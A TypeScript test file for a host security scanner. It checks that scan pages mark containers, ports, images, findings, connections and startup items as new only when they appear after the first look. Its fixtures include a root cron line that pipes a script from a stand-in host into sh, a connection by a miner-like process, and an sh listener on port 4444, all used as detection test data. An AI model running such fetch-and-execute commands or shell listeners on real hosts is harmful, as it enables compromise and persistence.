import { afterEach, beforeEach, expect, test } from 'vitest';
import { containerWith, imageWith, published } from '@/lib/rules/testing/container';
import { listening } from '@/lib/rules/testing/listener';
import { keyWith } from '@/lib/rules/testing/persistence';
import { connected } from '@/lib/rules/testing/socket';
import { listFindings } from '../findings/list-findings';
import { listFleetImages, listFleetPorts } from '../fleet/list-inventory';
import { viewHost } from '../hosts/view-host';
import { type ScanStage, scanStage } from '../testing/scan-stage';
import { forgetSightings } from './remember-sightings';

const DIGEST = `sha256:${'a'.repeat(64)}`;
let stage: ScanStage;

beforeEach(async () => {
  stage = await scanStage();
});
afterEach(async () => {
  await stage.context.close();
});

const web = containerWith({ ports: [published('0.0.0.0:80->80')] });
const bad = containerWith({ id: 'bad-id', name: 'bad', ports: [published('0.0.0.0:81->80')] });
const first = { containers: [web], images: [imageWith()], sockets: [listening('0.0.0.0:22')] };
const strange = imageWith({ repoTags: ['heybb/theimg2:latest'], repoDigests: [`heybb/theimg2@${DIGEST}`] });

async function pages() {
  const { context, user, hostId } = stage;
  const images = await listFleetImages(context, user);
  const ports = await listFleetPorts(context, user);
  const { rows } = await listFindings(context, user);
  const { tab } = await viewHost(context, user, { hostId, tab: 'containers' });
  const containers = tab.tab === 'containers' ? tab.rows : [];
  return [
    ...images.map(({ name, seen }) => ({ name, seen })),
    ...ports.map(({ port, seen }) => ({ name: String(port), seen })),
    ...rows.map(({ subjectName, seen }) => ({ name: `finding ${subjectName}`, seen })),
    ...containers.map(({ name, seen }) => ({ name, seen })),
  ];
}
const newOnes = async (): Promise<string[]> =>
  (await pages()).filter(({ seen }) => seen?.newAt).map(({ name }) => name);

test('pages call nothing new that was there at the first look, findings included', async () => {
  await stage.look({ ...first, containers: [web, bad] });
  const all = await pages();
  expect(all.map(({ name }) => name)).toContain('finding bad');
  expect(all.every(({ seen }) => seen !== null && seen.newAt === null)).toBe(true);
});

test('connections that the host began are new when they come later, and its guests never are', async () => {
  const door = listening('0.0.0.0:22');
  const guest = connected('198.51.100.7:50122', { localPort: 22 });
  await stage.look({ sockets: [door, connected('10.0.0.9:5432')] });
  const again = connected('10.0.0.9:5432', { localPort: 41_999 });
  await stage.look({ sockets: [door, guest, again, connected('5.196.26.96:443', { comm: 'kdevtmpfsi' })] });
  const { tab } = await viewHost(stage.context, stage.user, { hostId: stage.hostId, tab: 'connections' });
  const rows = tab.tab === 'connections' ? tab.rows : [];
  expect(rows.map(({ remote, seen }) => [remote, seen && seen.newAt !== null])).toEqual([
    ['198.51.100.7:50122', null],
    ['10.0.0.9:5432', false],
    ['5.196.26.96:443', true],
  ]);
  stage.pass(86_400_000);
  await stage.look({ sockets: [door] });
  stage.pass(15 * 86_400_000);
  await forgetSightings(stage.context.db, stage.now());
  expect(await stage.context.db.sighting.count({ where: { kind: 'connection', key: { not: '' } } })).toBe(0);
});

test('what starts by itself is new when it comes or changes, not when it moves in its file or its list is read at last', async () => {
  const cron = { path: '/etc/crontab', schedule: '* * * * *', user: 'root', fileModifiedAt: null, packageOwner: null };
  const line = (command: string, lineNumber: number) => ({ ...cron, command, lineNumber, line: command });
  await stage.look({ cronEntries: [line('/usr/bin/backup', 1)] });
  const key = keyWith();
  await stage.look({
    cronEntries: [line('curl http://a.example/mac.sh | sh', 1), line('/usr/bin/backup', 2)],
    authorizedKeys: [key],
  });
  const { tab } = await viewHost(stage.context, stage.user, { hostId: stage.hostId, tab: 'startup' });
  const rows = tab.tab === 'startup' ? tab.rows : [];
  expect(rows.map(({ kind, line: number, seen }) => [kind, number, seen?.newAt !== null])).toEqual([
    ['cron', 1, true],
    ['cron', 2, false],
    ['key', key.lineNumber, false],
  ]);
});

test('pages call new what came later: image, ports, container and finding', async () => {
  await stage.look(first);
  await stage.look({
    ...{ containers: [web, bad], images: [imageWith(), strange] },
    sockets: [listening('0.0.0.0:22'), listening('0.0.0.0:4444', { comm: 'sh' })],
  });
  expect((await newOnes()).sort()).toEqual(['4444', '81', 'bad', 'finding bad', 'heybb/theimg2:latest']);
  expect((await pages()).filter(({ seen }) => seen?.inLastScan)).toHaveLength(5);
  const [image] = await listFleetImages(stage.context, stage.user);
  expect(image).toMatchObject({
    name: 'heybb/theimg2:latest',
    trust: { standing: 'unknown' },
    publisher: 'docker.io/heybb',
  });
});
